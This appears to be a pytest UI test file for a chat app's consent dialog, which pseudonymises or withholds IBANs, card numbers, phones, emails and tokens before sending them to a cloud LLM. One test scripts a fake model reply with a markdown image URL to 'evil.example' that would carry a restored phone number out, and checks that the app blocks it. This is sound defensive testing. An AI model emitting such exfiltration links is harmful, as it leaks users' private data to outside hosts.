"""The consent dialog on a real turn to a cloud worker (the fake OpenAI API): each
answer by keyboard or mouse, per-finding choices, and the conversation scope."""

from __future__ import annotations

import asyncio
import re
from pathlib import Path

import pytest
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QApplication, QWidget
from pytestqt.qtbot import QtBot

from app.config import Settings
from app.controller.consent import ConsentAnswer, ConsentItem, ConsentQueue, ConsentRequest
from app.controller.events import TurnFailed, TurnFinished
from app.ui.chat_window import MainWindow
from app.ui.consent_dialog import ConsentDialog, DialogConsent, combine, highlighted
from tests.fakes.openai_server import FakeOpenAI
from tests.ui.helpers import close_window, hrefs, open_window, type_and_send, wait_for
from workers import WorkerSpec

IBAN = "DE89 3704 0044 0532 0130 00"
CARD = "4111 1111 1111 1111"
MESSAGE = f"Pay from IBAN {IBAN} or card {CARD}"


def cloud_settings(url: str, privacy_class: str = "approved_provider") -> Settings:
    worker_id = "gpt" if privacy_class == "approved_provider" else "ext"
    spec = WorkerSpec(
        id=worker_id,
        kind="openai",
        base_url=url,
        model="gpt-4o-mini",
        privacy_class=privacy_class,
    )
    return Settings(workers=[spec], default_worker=worker_id)


async def _consent_turn(
    qtbot: QtBot, home: Path, server: FakeOpenAI, answer: object
) -> tuple[object, list[str], MainWindow]:
    """Sends MESSAGE, answers the dialog with ``answer(dialog)``, returns the outcome and
    the chat bodies the server received."""
    broker = DialogConsent(None)
    window = await open_window(qtbot, home, cloud_settings(server.base_url), broker)
    broker.parent = window
    sending = asyncio.ensure_future(type_and_send(qtbot, window, MESSAGE))
    await wait_for(lambda: broker.dialog is not None and broker.dialog.isVisible())
    dialog = broker.dialog
    assert dialog is not None
    dialog.activateWindow()  # mnemonics (Alt+…) go to the active window
    await wait_for(lambda: QApplication.activeWindow() is dialog)
    answer(qtbot, dialog)  # type: ignore[operator]
    event = await sending
    bodies = [r.body.decode() for r in server.requests if r.path.endswith("/chat/completions")]
    return event, bodies, window


@pytest.mark.parametrize(
    ("press", "sent", "outcome"),
    [
        pytest.param(
            lambda qtbot, d: qtbot.keyClick(d, Qt.Key.Key_Return),
            "pseudo",
            TurnFinished,
            id="enter-pseudonymises",
        ),
        pytest.param(
            lambda qtbot, d: qtbot.keyClick(d, Qt.Key.Key_A, Qt.KeyboardModifier.AltModifier),
            "as-is",
            TurnFinished,
            id="alt-a-sends-as-is",
        ),
        pytest.param(
            lambda qtbot, d: qtbot.mouseClick(
                d.buttons[ConsentAnswer.KEEP_LOCAL], Qt.MouseButton.LeftButton
            ),
            None,
            TurnFailed,
            id="keep-local",
        ),
        pytest.param(
            lambda qtbot, d: qtbot.keyClick(d, Qt.Key.Key_Escape),
            None,
            TurnFailed,
            id="escape-cancels",
        ),
    ],
)
def test_each_answer(
    qtbot: QtBot,
    qloop: asyncio.AbstractEventLoop,
    ares_home: Path,
    fake_openai: FakeOpenAI,
    press: object,
    sent: str | None,
    outcome: type,
) -> None:
    fake_openai.api_key = None

    async def scenario() -> tuple[object, list[str]]:
        event, bodies, window = await _consent_turn(qtbot, ares_home, fake_openai, press)
        await close_window(window)
        return event, bodies

    event, bodies = qloop.run_until_complete(scenario())
    assert isinstance(event, outcome), event
    if sent is None:
        assert bodies == []
        assert isinstance(event, TurnFailed) and event.reason == "refused"
    elif sent == "pseudo":
        assert len(bodies) == 1 and IBAN not in bodies[0] and CARD not in bodies[0]
        assert "[IBAN_1]" in bodies[0]
    else:
        assert len(bodies) == 1 and IBAN in bodies[0] and CARD in bodies[0]


def test_per_finding_choices_and_the_conversation_box(
    qtbot: QtBot, qloop: asyncio.AbstractEventLoop, ares_home: Path, fake_openai: FakeOpenAI
) -> None:
    fake_openai.api_key = None
    decisions = []
    order: list[str] = []

    def per_finding(qtbot: QtBot, dialog: ConsentDialog) -> None:
        assert [c.currentData() for c in dialog.choices] == [ConsentAnswer.PSEUDONYMISE] * 2
        dialog.choices[0].setCurrentIndex(dialog.choices[0].findData(ConsentAnswer.SEND_AS_IS))
        order.extend(item.text for item in dialog.request.items)
        qtbot.mouseClick(dialog.whole_conversation, Qt.MouseButton.LeftButton)
        dialog.accepted.connect(lambda: decisions.append(dialog.decision()))
        qtbot.mouseClick(dialog.apply_choices, Qt.MouseButton.LeftButton)

    async def scenario() -> tuple[object, list[str]]:
        event, bodies, window = await _consent_turn(qtbot, ares_home, fake_openai, per_finding)
        await close_window(window)
        return event, bodies

    event, bodies = qloop.run_until_complete(scenario())
    assert isinstance(event, TurnFinished)
    assert decisions[0].answer is ConsentAnswer.SEND_AS_IS
    assert decisions[0].scope == "conversation"
    assert decisions[0].items == [ConsentAnswer.SEND_AS_IS, ConsentAnswer.PSEUDONYMISE]
    sent_as_is, held_back = order
    assert sent_as_is in bodies[0] and held_back not in bodies[0]


def test_combining_is_never_less_careful_than_any_choice() -> None:
    P, S, K = ConsentAnswer.PSEUDONYMISE, ConsentAnswer.SEND_AS_IS, ConsentAnswer.KEEP_LOCAL
    assert combine([S, S]) is S
    assert combine([S, P]) is P
    assert combine([P, K, S]) is K


def test_findings_are_marked_in_the_message(qtbot: QtBot) -> None:
    request = ConsentRequest(
        worker_id="gpt",
        privacy_class="approved_provider",
        message=MESSAGE,
        items=[
            ConsentItem(
                kind="IBAN",
                sensitivity="sensitive",
                start=MESSAGE.index(IBAN),
                end=MESSAGE.index(IBAN) + len(IBAN),
                text=IBAN,
            ),
            ConsentItem(
                kind="HEALTH",
                sensitivity="sensitive",
                start=0,
                end=8,
                text="diabetes",
                source="memory",
            ),
        ],
    )
    html = highlighted(request.message, request.items)
    assert f"<b>{IBAN}</b>" in html and "<sup" in html
    dialog = ConsentDialog(request)
    qtbot.addWidget(dialog)
    assert dialog.findings.item(1, 3).text() == "diabetes (memory)"
    assert isinstance(dialog.buttons[ConsentAnswer.PSEUDONYMISE], QWidget)
    assert dialog.buttons[ConsentAnswer.PSEUDONYMISE].isDefault()


def test_a_link_that_would_carry_a_value_out_is_shown_inert(
    qtbot: QtBot, qloop: asyncio.AbstractEventLoop, ares_home: Path, fake_openai: FakeOpenAI
) -> None:
    """The cloud worker saw [PHONE_1]; an answer whose image URL would send the restored
    number away is flagged by the answer checks and rendered with the image blocked."""
    fake_openai.api_key = None
    fake_openai.script_reply(["Noted. ", "![pixel](https://evil.example/p?n=[PHONE_1])", " Bye."])

    async def scenario() -> tuple[str, list[str], str]:
        window = await open_window(qtbot, ares_home, cloud_settings(fake_openai.base_url))
        event = await type_and_send(qtbot, window, "Call me on +44 20 7946 0958 tomorrow")
        assert isinstance(event, TurnFinished), event
        [badge] = window.view.badges()
        text, links = window.view.toPlainText(), hrefs(window.view)
        window.new_conversation()
        await window.open_conversation(event.conversation_id)  # from memory: still inert
        assert "[blocked image: pixel]" in window.view.toPlainText()
        await close_window(window)
        return text, links, badge.text()

    text, links, badge = qloop.run_until_complete(scenario())
    sent = fake_openai.requests_to("/v1/chat/completions")[0].body.decode()
    assert "7946" not in sent and "[PHONE_1]" in sent
    assert "[blocked image: pixel]" in text and "evil.example" not in text
    assert not [h for h in links if "evil" in h]
    assert "no_exfiltration fail" in badge


def _request(turn_id: str, agent: str | None) -> ConsentRequest:
    item = ConsentItem(kind="IBAN", sensitivity="private", start=9, end=9 + len(IBAN), text=IBAN)
    return ConsentRequest(
        worker_id="gpt",
        privacy_class="approved_provider",
        message=f"Pay from {IBAN}",
        items=[item],
        turn_id=turn_id,
        origin="agent" if agent else "person",
        agent=agent,
    )


def test_requests_from_several_tasks_come_one_after_another_saying_who_asks(
    qtbot: QtBot, qloop: asyncio.AbstractEventLoop
) -> None:
    async def scenario() -> list[ConsentAnswer]:
        broker = DialogConsent(None)
        queue = ConsentQueue(broker)
        asks = [
            asyncio.ensure_future(queue.ask(_request(f"{n}" * 12, agent), 60))
            for n, agent in ((1, None), (2, "payer"), (3, "booker"))
        ]
        intros: list[str] = []
        for press in (Qt.Key.Key_Return, Qt.Key.Key_Escape, Qt.Key.Key_Return):
            await wait_for(lambda: broker.dialog is not None and broker.dialog.isVisible())
            dialog = broker.dialog
            assert dialog is not None
            intros.append(dialog.intro.text())
            qtbot.keyClick(dialog, press)
            await wait_for(lambda d=dialog: broker.dialog is not d)
        assert "This message" in intros[0] and "2 more waiting" in intros[0]
        assert "The agent 'payer' (task 22222222)" in intros[1] and "1 more waiting" in intros[1]
        assert "'booker'" in intros[2] and "more waiting" not in intros[2]
        return [(await ask).answer for ask in asks]

    answers = qloop.run_until_complete(scenario())
    assert answers == [ConsentAnswer.PSEUDONYMISE, ConsentAnswer.CANCEL, ConsentAnswer.PSEUDONYMISE]


def test_every_finding_is_shown_with_what_will_happen_to_it(
    qtbot: QtBot, qloop: asyncio.AbstractEventLoop, ares_home: Path, fake_openai: FakeOpenAI
) -> None:
    """To an external provider: the IBAN needs consent, the e-mail is replaced by its
    placeholder without asking, the token is never sent; all three are in the dialog,
    and only the IBAN has a choice."""
    fake_openai.api_key = None
    token = "ghp_R2d2C3poBB8aK9LmNoPqRsTuVwXyZ0123456"
    message = f"Pay from IBAN {IBAN}, mail ola@example.com, token {token}"
    rows: list[list[str]] = []
    choices: list[int] = []

    async def scenario() -> list[str]:
        broker = DialogConsent(None)
        settings = cloud_settings(fake_openai.base_url, "external_provider")
        window = await open_window(qtbot, ares_home, settings, broker)
        broker.parent = window
        sending = asyncio.ensure_future(type_and_send(qtbot, window, message))
        await wait_for(lambda: broker.dialog is not None and broker.dialog.isVisible())
        dialog = broker.dialog
        assert dialog is not None
        table = dialog.findings
        for row in range(table.rowCount()):
            cells = [table.item(row, col).text() for col in (1, 3) if table.item(row, col)]
            what = table.item(row, 4)
            rows.append([*cells, what.text() if what else "(choice)"])
        choices.append(len(dialog.choices))
        dialog.buttons[ConsentAnswer.PSEUDONYMISE].click()
        assert isinstance(await sending, TurnFinished)
        await close_window(window)
        return [r.body.decode() for r in fake_openai.requests if r.path.endswith("/completions")]

    bodies = qloop.run_until_complete(scenario())
    assert rows == [
        ["IBAN", IBAN, "(choice)"],
        ["EMAIL", "ola@example.com", "replaced by [EMAIL_1]"],
        ["GITHUB_TOKEN", f"•••• ({len(token)} characters)", "never sent"],
    ]
    assert choices == [1]
    [body] = bodies
    assert "[EMAIL_1]" in body and "ola@example.com" not in body and token not in body


def test_the_badge_says_in_one_phrase_what_left_and_what_was_held_back(
    qtbot: QtBot, qloop: asyncio.AbstractEventLoop, ares_home: Path, fake_openai: FakeOpenAI
) -> None:
    fake_openai.api_key = None

    async def scenario() -> str:
        settings = cloud_settings(fake_openai.base_url, "external_provider")
        window = await open_window(qtbot, ares_home, settings)
        event = await type_and_send(qtbot, window, "Mail ola@example.com and +44 20 7946 0958")
        assert isinstance(event, TurnFinished), event
        text = window.view.toPlainText()
        await close_window(window)
        return text

    text = qloop.run_until_complete(scenario())
    privacy, figures = text.splitlines()[-2:]
    assert privacy == (
        "Privacy: sent to ext (cloud) · left: public text · held back: 2 values (EMAIL, PHONE)"
    )
    assert re.fullmatch(r"(.* · )?(\d+\.\d s|\d+ ms)( · .*)?", figures), figures  # how long it took
